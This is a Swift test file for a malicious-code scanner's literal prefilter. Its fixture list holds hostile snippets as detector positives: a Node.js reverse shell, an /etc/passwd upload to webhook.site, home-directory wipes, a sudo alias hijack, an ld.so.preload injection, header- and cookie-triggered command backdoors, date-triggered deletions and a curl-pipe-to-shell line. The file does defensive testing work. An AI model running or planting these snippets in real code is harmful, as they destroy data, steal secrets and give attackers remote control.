import Testing

@testable import CustodyCore

/// The shared literal prefilter (``LiteralGates``) may only skip files in which a detector could
/// not have reported anything: these tests fail if it ever skips a line a detector needs.
struct LiteralGatesTests {
    @Test(arguments: LiteralGates.Gate.allCases)
    func everyLiteralOpensItsGateInAnyCaseAnywhereInTheText(_ gate: LiteralGates.Gate) {
        let literals = LiteralGates.literals(of: gate)
        #expect(!literals.isEmpty)
        for literal in literals {
            let upper = literal.map { $0 >= 0x61 && $0 <= 0x7a ? $0 - 0x20 : $0 }
            for form in [literal, upper] {
                // In the middle of other text, and at the very end of the last line.
                let text = Array("x = 1;\nsome words ".utf8) + form + Array(" more".utf8)
                #expect(LiteralGates(text[...]).contains(gate), "\(String(decoding: form, as: UTF8.self))")
                #expect(LiteralGates(form[...]).contains(gate), "\(String(decoding: form, as: UTF8.self))")
            }
        }
    }

    @Test func plainTextOpensNoGate() {
        #expect(LiteralGates(Array("int x = 1;".utf8)[...]).bits == 0)
        #expect(LiteralGates([][...]).bits == 0)
        #expect(LiteralGates.allOpen.bits == (1 << UInt32(LiteralGates.Gate.allCases.count)) - 1)
    }

    /// Positives of every gated detector in several languages, each in its own file, plus files
    /// with none: the suite (which works the gates out once per file) finds exactly what it finds
    /// with every gate forced open, and finds each expected rule.
    @Test func suiteFindsTheSameWithTheGatesAsWithout() throws {
        let files: [(String, String)] = [
            ("deploy/config.py", "TOKEN = 'ghp_" + String(repeating: "aB3dE5gH7jK9", count: 3) + "'"),
            ("src/service.js", "const key = \"-----BEGIN RSA PRIVATE KEY-----\\nMIIEowIBAAKCAQEA7bq98Ux1eFQ2Bmvx8zYXpJ3a6bXbcLPk0xTq+0M9R2ZxYwWq\\n\";"),
            ("scripts/clean.sh", "rm -rf \"$HOME\"/*"),
            ("tools/wipe.py", "import shutil\nshutil.rmtree(os.path.expanduser('~'))"),
            ("install.sh", "echo 'alias sudo=\"sudo -E /tmp/.s\"' >> ~/.bashrc"),
            ("src/boot.c", "system(\"echo /tmp/x.so >> /etc/ld.so.preload\");"),
            ("app/views.py", "if request.headers.get(\"X-Debug-Token\") == \"7f3a9c1e\":\n    os.system(request.args[\"cmd\"])"),
            ("web/x.php", "if ($_COOKIE['sess'] == 'a8f5f167f44f4964e6c998dee827110c') { system($_GET['c']); }"),
            ("index.js", "const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst client = new net.Socket();\nclient.connect(4444, '10.0.0.1', () => { client.pipe(sh.stdin); sh.stdout.pipe(client); });"),
            ("src/net.c", "static const char *peer = \"203.0.114.7\";"),
            ("lib/exfil.py", "requests.post('https://webhook.site/abc', data=open('/etc/passwd').read())"),
            ("src/license.c", "if (time(NULL) > 1767225600) {\n    unlink(\"/etc/app.conf\");\n}"),
            ("cmd/x/main.go", "if time.Now().After(time.Date(2026, 4, 1, 0, 0, 0, 0, time.UTC)) {\n\tos.RemoveAll(dir)\n}"),
            ("lib/walk.js", "for (const f of fs.readdirSync('/')) {\n  fs.writeFileSync(f, 'x');\n}"),
            ("ci/setup.sh", "git config --global http.sslVerify false\ncurl --insecure https://example.org/x | sh"),
            ("setup.py", "exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))"),
            ("src/loader.js", "var e = \"\\x65\\x76\\x61\\x6c\\x28\\x61\\x74\\x6f\\x62\\x28\"; run(e);"),
            ("src/plain.c", "int add(int a, int b) {\n    return a + b;\n}"),
            ("README.md", "Nothing to see here.\n"),
        ]
        let changes = files.map { DetectorFixtures.change($0.0, $0.1) }
        let commit = DetectorFixtures.commit(changes)
        let suite = DetectorSuite()
        let gated = suite.scan(commit, blobs: InMemoryBlobSource())
        // Every gate forced open: the detectors scan every line, as before the prefilter.
        var open = DetectionContext(commit: commit, blobs: InMemoryBlobSource())
        for change in changes { open.literalGates[change.path] = .allOpen }
        var ungated: [Finding] = []
        for detector in suite.detectors {
            detector.scanCommit(context: open, into: &ungated)
            for change in changes { detector.scan(change, context: open, into: &ungated) }
        }
        #expect(gated.map(\.fingerprint) == ungated.map(\.fingerprint))
        #expect(gated.map(\.evidence) == ungated.map(\.evidence))
        let rules = Set(gated.map(\.ruleID))
        for rule in [
            SecretLeakDetector.token, SecretLeakDetector.privateKey, DestructiveOperationDetector.wipe,
            PersistenceDetector.shellStartup, HiddenTriggerDetector.trigger, NetworkIndicatorDetector.reverseShell,
            NetworkIndicatorDetector.host, NetworkIndicatorDetector.address, TimeOrGeoBombDetector.dateGate,
            DestructiveOperationDetector.walkWipe, SecurityCheckSabotageDetector.tlsVerificationOff,
            DecodeAndExecuteDetector.decodeExec,
        ] {
            #expect(rules.contains(rule.id), "\(rule.id) not found: \(rules.sorted())")
        }
    }

    /// Two changes with the same path in one commit (the suite then caches no gates) are each
    /// judged on their own text.
    @Test func samePathTwiceInOneCommit() {
        let quiet = DetectorFixtures.change("scripts/x.sh", "echo hello")
        let loud = DetectorFixtures.change("scripts/x.sh", "rm -rf \"$HOME\"/*")
        let findings = DetectorSuite().scan(DetectorFixtures.commit([quiet, loud]), blobs: InMemoryBlobSource())
        #expect(findings.contains { $0.ruleID == DestructiveOperationDetector.wipe.id })
        let reversed = DetectorSuite().scan(DetectorFixtures.commit([loud, quiet]), blobs: InMemoryBlobSource())
        #expect(reversed.contains { $0.ruleID == DestructiveOperationDetector.wipe.id })
    }

    @Test func dottedDigits() {
        #expect(ByteScan.hasDottedDigits(Array("ip 8.8".utf8)[...]))
        #expect(ByteScan.hasDottedDigits(Array("1.2".utf8)[...]))
        #expect(!ByteScan.hasDottedDigits(Array("1.x 2. .3 a.b".utf8)[...]))
        #expect(!ByteScan.hasDottedDigits(Array("1.".utf8)[...]))
    }

    /// Where no literals are joined (and no backslash is present), the normalized line is the line
    /// lowercased: the decode-and-execute detector relies on it to skip normalizing such lines.
    @Test func withoutJoinsNormalizingOnlyLowercases() {
        let alphabet = Array("\"'` +.aZ(e".utf8)
        var state: UInt64 = 0x9e37_79b9_7f4a_7c15
        var checked = 0
        var joined = 0
        for _ in 0..<20_000 {
            var line: [UInt8] = []
            state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
            let length = Int(state >> 59)
            for _ in 0..<length {
                state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
                line.append(alphabet[Int(state >> 33) % alphabet.count])
            }
            if ByteScan.normalizationJoins(line[...]) {
                joined += 1
            } else {
                #expect(Array(ByteScan.normalized(line[...])) == Array(ByteScan.lowercased(line[...])), "\(String(decoding: line, as: UTF8.self))")
                checked += 1
            }
        }
        #expect(checked > 1000 && joined > 1000)
        #expect(ByteScan.normalizationJoins(Array("x = \"ev\" + \"al\"".utf8)[...]))
        #expect(ByteScan.normalizationJoins(Array("'a''b'".utf8)[...]))
        #expect(!ByteScan.normalizationJoins(Array("printf(\"%s\", name);".utf8)[...]))
    }
}
